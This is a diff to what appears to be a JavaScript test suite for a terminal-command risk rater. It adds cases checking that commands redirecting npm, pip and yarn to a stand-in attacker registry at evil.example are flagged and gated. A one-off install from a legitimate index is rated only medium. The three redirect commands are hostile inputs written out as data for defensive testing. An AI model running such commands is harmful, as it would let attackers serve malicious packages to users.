@@ -61,3 +61,21 @@ describe('exfiltration the blocklist missed', () => {
     expect(verdict.gated, JSON.stringify(verdict.reasons)).toBe(false);
   });
 });
+
+describe('pointing the package manager at another registry', () => {
+  it.each([
+    'npm config set registry https://evil.example',
+    'pip config set global.index-url https://evil.example/simple',
+    'yarn config set npmRegistryServer https://evil.example',
+  ])('for good is HIGH: %s', (command) => {
+    const verdict = rateTerminal(command);
+    expect(rules(verdict)).toContain('package-registry-redirect');
+    expect(verdict.gated).toBe(true);
+  });
+
+  it('for one install is visible but not gated', () => {
+    const verdict = rateTerminal('pip install --index-url https://download.pytorch.org/whl/cpu torch');
+    expect(verdict.risk).toBe('MEDIUM');
+    expect(verdict.gated).toBe(false);
+  });
+});
